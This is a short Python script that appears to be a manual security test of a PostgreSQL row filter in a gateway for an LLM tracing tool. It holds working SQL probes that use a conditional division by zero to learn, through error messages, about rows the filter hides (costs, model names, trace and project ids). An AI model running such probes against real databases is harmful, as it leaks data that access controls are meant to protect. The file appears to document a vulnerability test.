#!/usr/bin/env python3
"""Error side channel through a row filter (PostgreSQL): the caller's WHERE is evaluated on rows the
filter removes, and a division by zero tells them apart. Manual record, not CI."""
import sys, os, json
sys.path.insert(0, os.path.dirname(__file__))
from filters import gw
PROBES = [
    "SELECT count(*) FROM spans WHERE 1 / (CASE WHEN id = 75 AND cost_usd > 0.008 THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM spans WHERE 1 / (CASE WHEN id = 75 AND cost_usd > 0.009 THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM spans WHERE 1 / (CASE WHEN id = 75 AND attributes::jsonb ->> 'llm.model_name' LIKE 'gpt%' THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM spans WHERE 1 / (CASE WHEN id = 75 AND attributes::jsonb ->> 'llm.model_name' LIKE 'claude%' THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM traces WHERE 1 / (CASE WHEN id = 8 THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM traces WHERE 1 / (CASE WHEN id = 1 THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM traces WHERE 1 / (CASE WHEN project_id = 2 THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM projects WHERE 1 / (CASE WHEN name = 'code-assistant' THEN 0 ELSE 1 END) = 1",
    "SELECT count(*) FROM span_annotations WHERE 1 / (CASE WHEN id = 2 THEN 0 ELSE 1 END) = 1",
]
for sql in PROBES:
    for who in ("alpha",):
        s, j = gw(18303, sql, who)
        print(s, json.dumps(j.get("rows") or j.get("error", {}).get("message"))[:120], "|", sql)
